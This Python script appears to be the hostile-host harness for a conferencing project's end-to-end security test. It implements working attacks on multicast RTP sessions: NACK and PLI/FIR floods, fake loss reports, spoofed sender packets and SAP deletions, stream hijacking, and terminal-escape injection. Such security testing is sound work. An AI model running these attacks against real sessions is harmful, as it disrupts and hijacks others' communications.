#!/usr/bin/env python3
"""A hostile host on a confcast virtual LAN (tests/e2e/hostile_test.sh), python3 stdlib only.

It joins the session's group and the SAP group like any receiver, learns from what it hears
(the sender's address, media SSRC, highest sequence number and CNAME from RTP and RTCP; the
SAP announcement's origin and message id hash), then runs the attacks one after the other:

  nack     RFC 4585 generic NACKs (PT 205, FMT 1), each naming the last 136 sequence numbers
           (the figures measured in issue 18: ~175 packets over 4 s)
  pli      PLI and FIR (PT 206, FMT 1 and 4) from a new SSRC each time, 200 a second
  rr       receiver reports from one fake SSRC claiming 100% loss of the media stream
  spoof    SR, SDES (the sender's own CNAME) and BYE carrying the sender's SSRC
  sapdel   a SAP deletion (RFC 2974) naming the sender's origin and hash (and an announcement
           of its own whose session name carries escapes)
  hijack   RTP with the sender's SSRC and payload type
  escape   terminal escape sequences in SDES NAME/CNAME/TOOL, a BYE reason and a SAP session
           name, from a participant of its own that sends a little RTP first

Prints one JSON line: what it learned, and per phase its wall-clock start/end and counts.
"""
import argparse, json, os, random, select, socket, struct, time

GROUP_SAP = "224.2.127.254"
PORT_SAP = 9875
ATTACKER_SSRC = 0x0A77AC4E   # the attacker's own participant (RR, NACK and PLI sender)
FAKE_REPORTER = 0x0FA4E100   # the RR claiming 100% loss
ESCAPER = 0x0E5CA9E5         # the participant whose texts carry escapes
# ESC, CSI, OSC title change, bell, backspace, CR, LF (a forged log line), DEL, C1 CSI (U+009B),
# a raw 0x9B byte (invalid UTF-8), a tab, NUL and a right-to-left override.
EVIL = "\x1b[2J\x1b]0;pwned\x07\x08\r\nconfcast-recv: forged\x7f\u009b31m\udc9b\t\x00\u202e\x1b[31mRED"
# The same for an SDP line, which cannot hold CR, LF or NUL.
EVIL_SDP = "\x1b[2J\x1b]0;pwned\x07\x08\x7f\u009b31m\udc9b\t\u202e\x1b[31mRED"


def pad4(b):
    return b + bytes(-len(b) % 4)


def rtcp(pt, count, body):
    body = pad4(body)
    return struct.pack("!BBH", 0x80 | count, pt, len(body) // 4) + body


def rr(ssrc, blocks=()):
    return rtcp(201, len(blocks), struct.pack("!I", ssrc) + b"".join(blocks))


def sr(ssrc):
    now = time.time() + 2208988800
    return rtcp(200, 0, struct.pack("!IIIIII", ssrc, int(now), int((now % 1) * 2**32), 0, 0, 0))


def sdes(ssrc, items):
    chunk = struct.pack("!I", ssrc)
    for kind, text in items:
        t = text.encode("utf-8", "surrogateescape")[:255]
        chunk += bytes([kind, len(t)]) + t
    chunk += b"\x00"
    return rtcp(202, 1, pad4(chunk))


def bye(ssrc, reason):
    r = reason.encode("utf-8", "surrogateescape")[:255]
    return rtcp(203, 1, struct.pack("!I", ssrc) + bytes([len(r)]) + r)


def nack(sender, media, highest, count):
    """Generic NACK FCIs (PID + BLP) naming the `count` numbers up to `highest`."""
    first = (highest - count + 1) & 0xFFFF
    fcis, n = b"", 0
    while n < count:
        pid = (first + n) & 0xFFFF
        blp = 0
        for bit in range(16):
            if n + 1 + bit < count:
                blp |= 1 << bit
        fcis += struct.pack("!HH", pid, blp)
        n += 17
    return rtcp(205, 1, struct.pack("!II", sender, media) + fcis)


def pli(sender, media):
    return rtcp(206, 1, struct.pack("!II", sender, media))


def fir(sender, media, seq):
    return rtcp(206, 4, struct.pack("!II", sender, 0) + struct.pack("!IB3x", media, seq & 0xFF))


def rtp_packet(ssrc, seq, ts, payload, marker=False, pt=96):
    return struct.pack("!BBHII", 0x80, (0x80 if marker else 0) | pt, seq & 0xFFFF, ts & 0xFFFFFFFF, ssrc) + payload


def sap(deletion, hash_, origin, payload):
    b0 = (1 << 5) | (0x04 if deletion else 0)
    return struct.pack("!BBH", b0, 0, hash_) + socket.inet_aton(origin) + b"application/sdp\x00" + payload


def listener(group, port):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind((group, port))
    s.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP,
                 socket.inet_aton(group) + socket.inet_aton("0.0.0.0"))
    s.setblocking(False)
    return s


class Ears:
    """What the attacker learns by listening to the group like any receiver."""

    def __init__(self, group, port, me):
        self.me = me
        self.rtp = listener(group, port)
        self.rtcp = listener(group, port + 1)
        self.sap = listener(GROUP_SAP, PORT_SAP)
        self.sender = self.ssrc = self.seq = self.ts = self.cname = None
        self.sap_origin = self.sap_hash = self.sap_payload = None
        self.receivers = set()

    def poll(self, timeout=0.0):
        ready, _, _ = select.select([self.rtp, self.rtcp, self.sap], [], [], timeout)
        for s in ready:
            while True:
                try:
                    data, (host, _) = s.recvfrom(65536)
                except BlockingIOError:
                    break
                if host == self.me:
                    continue
                if s is self.rtp:
                    self.on_rtp(data, host)
                elif s is self.rtcp:
                    self.on_rtcp(data, host)
                else:
                    self.on_sap(data)

    def on_rtp(self, d, host):
        if len(d) < 12 or d[0] >> 6 != 2 or d[1] & 0x7F != 96:
            return
        seq, ts, ssrc = struct.unpack("!HII", d[2:12])
        if self.ssrc is None:
            self.sender, self.ssrc = host, ssrc
        if ssrc == self.ssrc and host == self.sender:
            if self.seq is None or ((seq - self.seq) & 0xFFFF) < 0x8000:
                self.seq, self.ts = seq, ts

    def on_rtcp(self, d, host):
        at = 0
        while at + 8 <= len(d):
            count, pt = d[at] & 0x1F, d[at + 1]
            end = at + 4 + 4 * struct.unpack("!H", d[at + 2:at + 4])[0]
            if end > len(d):
                return
            ssrc = struct.unpack("!I", d[at + 4:at + 8])[0]
            if pt == 201 and host != self.sender:
                self.receivers.add(ssrc)
            if pt == 202 and host == self.sender and count:
                i = at + 8
                while i + 2 <= end and d[i] != 0:
                    kind, n = d[i], d[i + 1]
                    if kind == 1 and ssrc == self.ssrc:
                        self.cname = d[i + 2:i + 2 + n].decode("utf-8", "replace")
                    i += 2 + n
            at = end

    def on_sap(self, d):
        if len(d) < 8 or d[0] & 0x04 or d[0] & 0x10:  # deletions, IPv6 origins
            return
        origin = socket.inet_ntoa(d[4:8])
        if origin != self.sender:
            return
        self.sap_hash = struct.unpack("!H", d[2:4])[0]
        self.sap_origin = origin
        body = d[8 + 4 * d[1]:]
        if body.startswith(b"application/sdp\x00"):
            body = body[len(b"application/sdp\x00"):]
        self.sap_payload = body

    def ready(self):
        return None not in (self.ssrc, self.seq, self.cname, self.sap_hash)


def main():
    a = argparse.ArgumentParser()
    a.add_argument("--group", default="239.0.0.11")
    a.add_argument("--port", type=int, default=15550)
    a.add_argument("--self", dest="me", required=True, help="this host's address")
    a.add_argument("--learn-timeout", type=float, default=8)
    o = a.parse_args()
    ears = Ears(o.group, o.port, o.me)
    out = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    out.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 1)
    out.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_LOOP, 0)
    rtp_dst, rtcp_dst, sap_dst = (o.group, o.port), (o.group, o.port + 1), (GROUP_SAP, PORT_SAP)
    report = {"phases": {}}

    deadline = time.monotonic() + o.learn_timeout
    while not ears.ready() and time.monotonic() < deadline:
        ears.poll(0.05)
    report["learned"] = {"sender": ears.sender, "ssrc": ears.ssrc, "seq": ears.seq, "cname": ears.cname,
                         "sap_hash": ears.sap_hash, "receivers": sorted(ears.receivers)}
    if not ears.ready():
        print(json.dumps(report))
        raise SystemExit("did not learn the session in time: " + json.dumps(report["learned"]))

    def phase(name, seconds, per_second, make):
        """Sends make(i) (a list of (destination, bytes)) per_second times for `seconds`."""
        start, sent, nbytes, i = time.monotonic(), 0, 0, 0
        wall = time.time()
        total = int(round(seconds * per_second))
        while i < total:
            ears.poll(0)
            wait = start + i / per_second - time.monotonic()
            if wait > 0:
                time.sleep(min(0.002, wait))
                continue
            for dst, data in make(i):
                out.sendto(data, dst)
                sent += 1
                nbytes += len(data)
            i += 1
        while time.monotonic() < start + seconds:
            ears.poll(0.01)
        report["phases"][name] = {"start": wall, "end": time.time(), "packets": sent, "bytes": nbytes}

    S = ears.ssrc
    evil_sdp = ("v=0\r\no=- 1818 1 IN IP4 {me}\r\ns=evil{e}\r\nc=IN IP4 239.0.0.99/1\r\nt=0 0\r\n"
                "m=video 15560 RTP/AVP 96\r\na=rtpmap:96 H264/90000\r\n").format(me=o.me, e=EVIL_SDP)
    evil_sap = sap(False, 0x1818, o.me, evil_sdp.encode("utf-8", "surrogateescape"))
    # A deletion naming the sender's origin and hash, and an announcement of our own whose
    # session name carries escapes (a --list must show it made safe).
    deletion = b"o=" + ears.sap_payload.split(b"o=", 1)[1].split(b"\r\n", 1)[0]
    phase("sapdel", 1.0, 3, lambda i: [(sap_dst, sap(True, ears.sap_hash, ears.sap_origin, deletion)),
                                       (sap_dst, evil_sap)])
    me_rr = rr(ATTACKER_SSRC)
    phase("nack", 4.0, 175 / 4.0, lambda i: [(rtcp_dst, me_rr + nack(ATTACKER_SSRC, S, ears.seq, 136))])
    phase("gap1", 0.5, 1, lambda i: [])
    rnd = random.Random(18)

    def pli_fir(i):
        who = rnd.getrandbits(32)
        if i % 2:
            return [(rtcp_dst, rr(who) + fir(who, S, i))]
        return [(rtcp_dst, rr(who) + pli(who, S))]
    phase("pli", 3.0, 200, pli_fir)

    def loss_report(i):
        block = struct.pack("!IB3sIIII", S, 255, (100000 + i * 100).to_bytes(3, "big"),
                            ears.seq, 0, 0, 0)
        return [(rtcp_dst, rr(FAKE_REPORTER, [block]) + sdes(FAKE_REPORTER, [(1, "reporter@attacker")]))]
    phase("rr", 4.0, 4, loss_report)

    def spoof(i):
        return [(rtcp_dst, sr(S) + sdes(S, [(1, ears.cname)])),
                (rtcp_dst, sr(S) + sdes(S, [(1, ears.cname), (2, "spoofed-name")])),
                (rtcp_dst, sr(S) + bye(S, "spoofed-bye"))]
    phase("spoof", 1.0, 5, spoof)

    hijack_seq = [0]

    def hijack(i):
        hijack_seq[0] = (ears.seq + 1) & 0xFFFF
        payload = bytes([0x65]) + os.urandom(600)
        return [(rtp_dst, rtp_packet(S, hijack_seq[0], ears.ts + 3000, payload, marker=True))]
    phase("hijack", 1.5, 100, hijack)

    texts = sdes(ESCAPER, [(1, "cname" + EVIL), (2, "name" + EVIL), (6, "tool" + EVIL)])

    def escape(i):
        pkts = [(rtp_dst, rtp_packet(ESCAPER, 100 + i, 9000 * (i // 3), bytes([0x41]) + os.urandom(300),
                                     marker=i % 3 == 2))]
        if i % 10 == 0:
            pkts += [(rtcp_dst, sr(ESCAPER) + texts)]
        return pkts
    phase("escape", 1.5, 40, escape)
    phase("escape_bye", 0.5, 4, lambda i: [(rtcp_dst, sr(ESCAPER) + texts + bye(ESCAPER, "bye" + EVIL))])
    print(json.dumps(report))


if __name__ == "__main__":
    main()
